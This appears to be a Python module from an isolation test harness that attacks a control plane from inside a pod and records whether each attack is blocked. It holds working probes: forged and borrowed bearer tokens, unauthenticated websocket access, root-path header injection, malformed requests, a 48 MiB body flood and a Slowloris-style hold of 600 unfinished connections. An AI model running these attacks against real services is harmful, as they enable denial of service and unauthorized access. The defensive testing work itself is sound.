"""The control plane by the one port of it that pods may connect to: what is asked there without being a courier."""

import base64
import contextlib
import http.client
import os
import select
import socket
import ssl
import time
from typing import Any
from urllib.parse import unquote, urlsplit

from isolation.attacks.base import Blocked, Success
from isolation.attacks.network import SECONDS, open_connection

LOGIN = "/login/"
STRANGER = "stranger.invalid"  # nobody's (RFC 2606)
EVENTS_PATH = "/agent/v1/events"
BODY_MIB = 48  # three times what a request of a courier may have, and more than what buffers on the way take
# More than one address may have (CONNECTIONS_PER_ADDRESS and the spare ones), by their defaults.
UNFINISHED, UNFINISHED_SECONDS = 600, 2.5
CLOSE = 8  # the opcode of a websocket's last frame (RFC 6455, section 5.2)


def authorization(kind: str) -> dict[str, str]:
    """The header for a kind of credential: `none`, `egress` (the run's own, for the proxy), or `forged`."""
    if kind == "none":
        return {}
    run = os.environ.get("BERTH_RUN", "")
    token = f"{run}.{'0' * 64}"
    if kind == "egress":
        proxy = urlsplit(os.environ.get("HTTPS_PROXY", ""))
        token = f"{run}.{unquote(proxy.password or '')}"
    return {"Authorization": f"Bearer {token}"}


def connect(url: str) -> socket.socket:
    """A connection to the control plane. Raises Blocked if nobody answers."""
    parts = urlsplit(url)
    tls = parts.scheme == "https"
    sock = open_connection(parts.hostname or "", parts.port or (443 if tls else 80))
    if tls:
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        sock = context.wrap_socket(sock, server_hostname=parts.hostname)
    sock.settimeout(SECONDS)
    return sock


def request(
    url: str, path: str, method: str, headers: dict[str, str], body: bytes | None = None
) -> http.client.HTTPResponse:
    """Ask the control plane for a path; the response, unread. Raises Blocked if nobody answers."""
    parts = urlsplit(url)
    client = http.client.HTTPConnection(parts.hostname or "", parts.port)
    client.sock = connect(url)
    client.request(method, path, body=body, headers=headers)
    return client.getresponse()


def http_path(url: str, paths: list[str], method: str = "GET", credential: str = "none") -> Success:
    """Ask for paths. Success is an answer with anything but an error or the way to a login."""
    statuses = []
    for path in paths:
        response = request(url, path, method, authorization(credential))
        if response.status < 300 or (response.status < 400 and LOGIN not in (response.getheader("Location") or "")):
            return Success(f"{method} {path} answered {response.status}")
        to_login = " (to the login)" if response.status < 400 else ""
        statuses.append(f"{path} {response.status}{to_login}")
    raise Blocked(", ".join(statuses))


def websocket(url: str, path: str) -> Success:
    """Follow a session without being anybody. Success is any frame that does not close the socket."""
    key = base64.b64encode(os.urandom(16)).decode()
    upgrade = {"Connection": "Upgrade", "Upgrade": "websocket", "Sec-WebSocket-Version": "13", "Sec-WebSocket-Key": key}
    response = request(url, path, "GET", upgrade | {"Origin": url})
    if response.status != 101:
        raise Blocked(f"{path} answered {response.status}")
    assert response.fp
    frame = response.fp.read(2)
    if not frame or frame[0] & 15 == CLOSE:
        raise Blocked(f"{path} was closed at once")
    return Success(f"{path} sent a frame")


def root_path(url: str) -> Success:
    """Say where the control plane is mounted, as a proxy in front of it would. Success is a response that shows it."""
    response = request(url, "/admin/", "GET", {"Daphne-Root-Path": f"//{STRANGER}"})
    if STRANGER in (response.getheader("Location") or "") or STRANGER.encode() in response.read(1 << 20):
        return Success(f"/admin/ answered {response.status} and leads to {STRANGER}")
    raise Blocked(f"/admin/ answered {response.status}, and nothing of {STRANGER}")


def odd_requests(url: str, requests: list[tuple[str, str]]) -> Success:
    """Ask for what can't be, without a token. Success is a response that says that the server went wrong."""
    statuses = []
    for method, path in requests:
        with contextlib.suppress(http.client.HTTPException), contextlib.closing(connect(url)) as sock:
            sock.sendall(
                f"{method} {path} HTTP/1.1\r\nHost: {urlsplit(url).netloc}\r\nContent-Length: 0\r\n\r\n".encode()
            )
            response = http.client.HTTPResponse(sock)
            response.begin()
            if response.status >= 500:
                return Success(f"{method} {path[:60]} answered {response.status}")
            statuses.append(str(response.status))
    raise Blocked(f"{len(requests)} requests, answered with {', '.join(sorted(set(statuses))) or 'nothing'}")


def large_body(url: str) -> Success:
    """Send a body without a token. Success is a server that takes all of it before it says no."""
    block, sent = b"x" * (1 << 18), 0
    head = f"POST {EVENTS_PATH} HTTP/1.1\r\nHost: {urlsplit(url).netloc}\r\nContent-Length: {1 << 30}\r\n\r\n"
    with contextlib.closing(connect(url)) as sock:
        sock.sendall(head.encode())
        try:
            while sent < BODY_MIB << 20 and not select.select([sock], [], [], 0)[0]:
                sent += sock.send(block)
        except OSError as error:
            raise Blocked(f"the server hung up after {sent >> 20} MiB ({error.strerror or 'too slow'})") from None
    if sent < BODY_MIB << 20:
        raise Blocked(f"the server answered after {sent >> 20} MiB")
    return Success(f"the server took {sent >> 20} MiB from nobody")


def unfinished(url: str) -> Success:
    """Begin many requests and finish none. Success is a server that holds all of them, or has no room for another."""
    open_sockets: list[socket.socket] = []
    try:
        for _ in range(UNFINISHED):
            try:
                open_sockets.append(connect(url))
                open_sockets[-1].sendall(f"POST {EVENTS_PATH} HTTP/1.1\r\nHost: x\r\nContent-Length: 9\r\n".encode())
            except (OSError, Blocked):
                raise Blocked(f"no more than {len(open_sockets)} were taken") from None
        end = time.monotonic() + UNFINISHED_SECONDS
        poll = select.poll()
        for sock in open_sockets:
            poll.register(sock, select.POLLIN | select.POLLHUP)
        while (left := end - time.monotonic()) > 0:
            if ended := poll.poll(left * 1000):
                raise Blocked(f"{len(ended)} or more of {len(open_sockets)} were ended")
    finally:
        for sock in open_sockets:
            sock.close()
    return Success(f"{len(open_sockets)} unfinished requests of one address are held")


ATTACKS: dict[str, Any] = {
    "http_path": http_path,
    "websocket": websocket,
    "root_path": root_path,
    "odd_requests": odd_requests,
    "large_body": large_body,
    "unfinished": unfinished,
}
